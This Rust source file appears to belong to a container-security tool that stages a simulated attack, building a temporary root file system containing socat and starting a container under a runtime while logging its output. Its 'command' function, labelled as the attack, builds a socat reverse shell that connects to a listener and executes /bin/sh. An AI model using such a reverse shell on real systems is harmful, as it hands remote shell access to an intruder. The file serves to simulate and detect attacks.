//! What every way of making the container needs: an id, a folder, a root file system, the command.

use super::cleanup::{Cleanup, until_free};
use super::rootfs;
use crate::inert;
use anyhow::{Context, Result, ensure};
use rustix::fs::{StatVfsMountFlags, statvfs};
use std::fs::File;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command};

/// Bytes of a container's own words that are shown.
const SAID_MAX: usize = 2_000;

/// The folder and what is in it.
pub(crate) struct Stage {
    /// 64 hexadecimal digits, as container runtimes write them.
    pub(crate) id: String,
    /// The folder; removed at the end.
    pub(crate) folder: PathBuf,
    /// The container's root file system.
    pub(crate) root: PathBuf,
    /// socat, as the container sees it.
    socat: PathBuf,
}

/// A process that runs the container. Dropping it ends it.
pub(crate) struct Started {
    pub(crate) child: Child,
    /// Which runtime, for the reader.
    pub(crate) by: String,
    /// When it was about to be started, nanoseconds since the epoch.
    pub(crate) not_before_ns: i64,
    log: PathBuf,
}

impl Stage {
    /// Makes the folder and fills it with the machine's own files.
    pub(crate) fn set(cleanup: &mut Cleanup) -> Result<Self> {
        let folder = tempfile::Builder::new().prefix("vedette-simulation-").tempdir_in(place()?)?.keep();
        cleanup.at_end(format!("the folder {}", folder.display()), {
            let folder = folder.clone();
            move || until_free(|| std::fs::remove_dir_all(&folder))
        });
        let root = folder.join("root");
        let socat = rootfs::build(&root)?;
        Ok(Self { id: random_id()?, folder, root, socat })
    }

    /// The attack.
    pub(crate) fn command(&self, listener: SocketAddr) -> Vec<String> {
        vec![self.socat.display().to_string(), format!("TCP:{listener}"), "EXEC:/bin/sh".into()]
    }

    /// Runs a command whose words are kept.
    pub(crate) fn start(&self, command: &mut Command, by: impl Into<String>) -> Result<Started> {
        let log = self.folder.join("said");
        let file = File::create(&log)?;
        let not_before_ns = super::session::now_ns();
        let child = command
            .stdout(file.try_clone()?)
            .stderr(file)
            .spawn()
            .with_context(|| format!("{} cannot be started", command.get_program().to_string_lossy()))?;
        Ok(Started { child, by: by.into(), not_before_ns, log })
    }
}

impl Started {
    /// What the container and its runtime said, inert.
    pub(crate) fn said(&self) -> String {
        let said = std::fs::read(&self.log).unwrap_or_default();
        let end = &said[said.len().saturating_sub(SAID_MAX)..];
        if end.is_empty() { "it said nothing".into() } else { inert::bytes(end.trim_ascii()) }
    }
}

impl Drop for Started {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A folder from which programs may be executed.
fn place() -> Result<PathBuf> {
    let candidates = [std::env::temp_dir(), "/var/tmp".into(), "/var/lib".into(), "/root".into()];
    let executable = |path: &Path| {
        statvfs(path)
            .is_ok_and(|s| !s.f_flag.intersects(StatVfsMountFlags::NOEXEC | StatVfsMountFlags::RDONLY))
    };
    let place = candidates.iter().find(|path| path.is_absolute() && path.is_dir() && executable(path));
    place.cloned().context(
        "no folder for temporary programs: /tmp and /var/tmp are read-only or mounted noexec; set TMPDIR",
    )
}

fn random_id() -> Result<String> {
    let mut id = String::new();
    for _ in 0..2 {
        // 122 random bits each, in 32 hexadecimal digits
        id += &std::fs::read_to_string("/proc/sys/kernel/random/uuid")
            .context("/proc is not mounted")?
            .trim()
            .replace('-', "");
    }
    ensure!(
        id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit()),
        "/proc/sys/kernel/random/uuid is not a UUID"
    );
    Ok(id)
}
